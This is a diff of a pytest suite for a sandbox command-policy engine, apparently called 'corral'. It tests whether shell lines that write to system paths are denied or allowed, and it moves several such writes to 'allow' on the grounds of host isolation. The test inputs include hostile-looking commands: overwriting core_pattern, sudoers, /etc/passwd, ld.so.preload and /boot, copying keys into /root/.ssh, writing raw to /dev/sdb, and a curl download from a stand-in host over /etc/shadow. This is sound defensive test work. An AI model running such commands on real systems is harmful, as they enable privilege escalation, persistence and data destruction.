@@ -77,6 +77,29 @@ def test_write_targets(argv: list[str], targets: list[str]) -> None:
 @pytest.mark.parametrize(
     "line",
     [
+        "cp /tmp/x /proc/sys/kernel/core_pattern",
+        "echo 1 | tee /sys/kernel/mm/transparent_hugepage/enabled",
+        "install -m 0755 ./helper /run/systemd/generator/x",
+        "sed -i 's/^Defaults/#/' /etc/sudoers.d/README",
+        "mkdir -p /data/x && cp x.sh /data/x/",
+        "find . -name '*.pub' -exec cp {} /root/.ssh/ \\;",
+        "nohup cp x /dev/sdb",
+        "curl -so /etc/shadow https://x.example/tool",
+        "crudini --set /run/corral/state.ini x y z",
+    ],
+)
+def test_default_refuses_writes_outside_the_sandbox(line: str) -> None:
+    """A device, a pseudo filesystem, a runtime directory, corral's own files, a credential
+    store or a top directory no rule lists: refused, the path named."""
+    decision = DEFAULT.decide_command(line)
+    assert decision.verdict == "deny", decision.reason
+    assert "writes a file it names" in decision.reason or "names the path" in decision.reason
+    assert "filesystem" in (decision.rule or "")
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
         "cp /tmp/passwd.new /etc/passwd",
         "install -m 0755 ./helper /usr/sbin/helper",
         "sed -i 's|quiet|quiet init=/x|' /etc/default/grub",
@@ -84,16 +107,17 @@ def test_write_targets(argv: list[str], targets: list[str]) -> None:
         "echo ok | tee -a /etc/rsyslog.d/10-x.conf",
         "find . -name '*.so' -exec cp {} /usr/lib/ \\;",
         "nohup cp x /etc/cron.daily/x",
-        "curl -so /usr/local/bin/tool https://x.example/tool",
         "dd if=payload of=/boot/vmlinuz-x",
         "crudini --set /etc/keystone/keystone.conf oslo_messaging_notifications driver noop",
+        "sudo mkdir -p /srv/app /var/lib/app /opt/app && sudo cp app.conf /srv/app/",
     ],
 )
-def test_default_refuses_writes_outside_the_sandbox(line: str) -> None:
+def test_writes_to_the_sandboxs_own_system_directories_run(line: str) -> None:
+    """The system's and the volumes' directories are the sandbox's own in every tier (a
+    read-only bind, the tier's own root; tests/test_system_paths_walls.py runs these as
+    root inside bwrap and gVisor and finds the host unchanged): the write fails or stays."""
     decision = DEFAULT.decide_command(line)
-    assert decision.verdict == "deny", decision.reason
-    assert "writes a file it names" in decision.reason
-    assert "filesystem" in (decision.rule or "")
+    assert decision.verdict == "allow", decision.reason
 
 
 @pytest.mark.parametrize(
@@ -119,8 +143,9 @@ def test_default_lets_writes_inside_run(line: str) -> None:
 
 
 def test_the_exec_action_is_decided_the_same_way() -> None:
-    d = DEFAULT.decide(ExecAction(argv=["cp", "x", "/etc/ld.so.preload"]))
-    assert d.verdict == "deny" and "/etc/ld.so.preload" in d.reason
+    d = DEFAULT.decide(ExecAction(argv=["cp", "x", "/proc/sys/kernel/core_pattern"]))
+    assert d.verdict == "deny" and "/proc/sys/kernel/core_pattern" in d.reason
+    assert DEFAULT.decide(ExecAction(argv=["cp", "x", "/etc/ld.so.preload"])).verdict == "allow"
     rel = DEFAULT.decide(ExecAction(argv=["cp", "x", "../../etc/passwd"], cwd="/workspace"))
     assert rel.verdict == "allow"  # relative paths are not absolute literals: the kernel's
 
